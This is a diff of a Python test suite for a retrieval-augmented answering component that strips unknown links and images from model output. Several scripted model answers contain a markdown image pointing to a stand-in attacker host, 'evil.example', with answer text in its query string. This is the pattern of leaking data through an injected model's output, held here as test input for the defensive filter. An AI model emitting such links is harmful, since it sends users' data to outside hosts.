@@ -10,6 +10,7 @@ from hypothesis import strategies as st
 
 from agentformer.rag.answer.answerer import Answerer
 from agentformer.rag.answer.model_output import LinkFilter, remove_unknown_links
+from agentformer.rag.answer.sources import Found
 from agentformer.text.prompt_quoting import MarkerRestorer
 from agentformer.types import Answer, AnswerPiece
 from tests.rag.models import HITS, Scripted, hit
@@ -117,7 +118,7 @@ def test_an_address_that_was_given_takes_no_other_words_with_it() -> None:
 
 def test_a_warning_tells_whose_the_addresses_are_and_not_what_they_carry() -> None:
     model = Scripted("In the cupboard [1]. ![x](http://evil.example/?q=blue-cupboard)")
-    answer = Answerer(model, None).answer("Who keeps the keys?", HITS)
+    answer = Answerer(model, None).answer(Found("Who keeps the keys?", HITS))
     assert answer.text == "In the cupboard [1]. ! x"
     (warning,) = answer.warnings
     assert "evil.example" in warning and "blue" not in warning
@@ -126,7 +127,7 @@ def test_a_warning_tells_whose_the_addresses_are_and_not_what_they_carry() -> No
 def test_an_address_of_the_question_or_a_passage_may_be_said() -> None:
     hits = [hit("The form is at https://harbour.example/form.", 1)]
     said = "At https://harbour.example/form [1], not at https://old.example/form."
-    answer = Answerer(Scripted(said), None).answer("Is the form at https://old.example/form?", hits)
+    answer = Answerer(Scripted(said), None).answer(Found("Is the form at https://old.example/form?", hits))
     assert (answer.text, answer.warnings) == (said, ())
 
 
@@ -148,7 +149,7 @@ def test_a_streamed_text_shows_no_image_whatever_its_pieces(text: str, size: int
 
 def test_a_stream_shows_no_image_and_ends_with_the_same_text() -> None:
     model = Scripted(["Blue", "!", "[x](http://evil", ".example/?q=1) <i", "mg src=a> [1]", "!"])
-    events = list(Answerer(model, None).stream("Who keeps the keys?", HITS))
+    events = list(Answerer(model, None).stream(Found("Who keeps the keys?", HITS)))
     shown = "".join(event.text for event in events if isinstance(event, AnswerPiece))
     assert shown == "Blue! [x](http://evil.example/?q=1) ‹img src=a> [1]!"
     assert isinstance(events[-1], Answer)
@@ -189,7 +190,7 @@ def test_brackets_are_answered_as_they_stand_in_the_passage() -> None:
     for size in [1, 3, 1000]:
         said = "Write List‹String› names = ⟦NEW⟧; // ‹code›, see ⟦7⟧ [1]"
         model = Scripted([said[at : at + size] for at in range(0, len(said), size)])
-        events = list(Answerer(model, None).stream("How to declare names?", [hit(LISTS, 1)]))
+        events = list(Answerer(model, None).stream(Found("How to declare names?", [hit(LISTS, 1)])))
         assert "List‹String› names = ⟦NEW⟧; // ‹code›, see ⟦7⟧" in model.asked[0][1].content
         text = "Write List<String> names = [NEW]; // <code>, see ⟦7⟧ [1]"
         assert "".join(event.text for event in events if isinstance(event, AnswerPiece)) == text
@@ -199,14 +200,16 @@ def test_brackets_are_answered_as_they_stand_in_the_passage() -> None:
 
 def test_signs_that_a_passage_has_itself_stay() -> None:
     said = "Elle dit ‹oui› [1]."
-    assert Answerer(Scripted(said), None).answer("Elle dit?", [hit("Elle dit «‹oui› et non».", 1)]).text == said
+    assert Answerer(Scripted(said), None).answer(Found("Elle dit?", [hit("Elle dit «‹oui› et non».", 1)])).text == said
 
 
 def test_quoted_markup_loads_nothing_when_it_is_whole_again() -> None:
     said = "‹img src='https://harbour.example/fees?year=2026'› !⟦NEW⟧(https://harbour.example/fees?year=2026) [1]"
     hits = [hit(GIVEN[0], 1)]
     for text in (
-        Answerer(Scripted(said), None).answer("fees?", hits).text,
-        "".join(e.text for e in Answerer(Scripted([*said]), None).stream("fees?", hits) if isinstance(e, AnswerPiece)),
+        Answerer(Scripted(said), None).answer(Found("fees?", hits)).text,
+        "".join(
+            e.text for e in Answerer(Scripted([*said]), None).stream(Found("fees?", hits)) if isinstance(e, AnswerPiece)
+        ),
     ):
         assert "<img" not in text and "![" not in text
